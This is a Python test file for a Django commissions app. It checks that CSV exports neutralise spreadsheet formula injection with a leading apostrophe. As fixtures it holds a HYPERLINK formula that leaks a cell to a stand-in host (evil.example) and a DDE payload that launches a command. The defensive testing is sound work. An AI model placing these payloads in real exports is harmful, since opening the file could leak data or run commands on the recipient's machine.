"""Every CSV the project writes neutralises cells a spreadsheet would run as a formula (core/csv.py)."""

from __future__ import annotations

import csv as stdlib_csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse

from commissions.models import PayoutBatch
from core import csv
from distributors.demo import seed_bank_accounts
from distributors.models import Distributor
from tests.commissions.closing import EXAMPLES, close, default_plan

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Click for your bonus")'


@pytest.mark.parametrize(
    "value, written",
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+31 6 1234 5678", "'+31 6 1234 5678"),
        ("-1+2", "'-1+2"),
        ("-A1", "'-A1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        # Numbers stay numbers, also negative ones: a clawback, a negative net.
        ("-12.50", "-12.50"),
        ("+12", "+12"),
        ("-0.5", "-0.5"),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        # Text that starts otherwise is untouched; the mark only goes in front.
        ("Anna", "Anna"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_gets_a_leading_apostrophe(value, written):
    assert csv.safe_cell(value) == written


def test_the_writer_is_a_drop_in_for_csv_writer_that_neutralises_every_cell():
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    assert writer.writerow(["name", "amount"]) == len("name,amount\n")
    writer.writerows([[HYPERLINK, Decimal("-12.50")], ["Bob", "25.00"]])
    assert list(stdlib_csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "amount"],
        ["'" + HYPERLINK, "-12.50"],
        ["Bob", "25.00"],
    ]


@pytest.fixture
def s1_closed_with_a_formula_for_a_name():
    call_command("import_network", str(EXAMPLES / "s1"), stdout=io.StringIO())
    default_plan()
    # Enrollment accepts any first name: this one is a formula.
    Distributor.objects.filter(external_id="A").update(first_name=HYPERLINK)
    return close("2026-10")


@pytest.mark.django_db
def test_the_bank_csv_writes_a_formula_name_as_text_and_amounts_as_numbers(
    s1_closed_with_a_formula_for_a_name, tmp_path, admin_client
):
    out = tmp_path / "bank.csv"
    seed_bank_accounts()  # payouts go to a valid bank account (distributors.bank)
    call_command("payout_batch", "2026-10", str(out), stdout=io.StringIO())
    rows = list(stdlib_csv.DictReader(out.open()))
    anna = next(row for row in rows if row["distributor_id"] == "A")
    assert (anna["name"], anna["amount"]) == ("'" + HYPERLINK + " A", "292.50")
    batch = PayoutBatch.objects.get()
    download = admin_client.get(reverse("admin:commissions_payoutbatch_csv", args=[batch.pk]))
    assert download.content.decode() == out.read_text()


def test_no_module_writes_csv_with_the_standard_library_writer():
    # One helper for every CSV the project writes: a new export that bypasses it fails here.
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in (".venv", "tests", "bench") or relative == Path("core/csv.py"):
            continue
        source = path.read_text()
        imports_csv = re.search(r"^\s*import csv\b", source, re.M)
        if imports_csv and re.search(r"\bcsv\.(writer|DictWriter)\(", source):
            offenders.append(str(relative))
    assert offenders == []
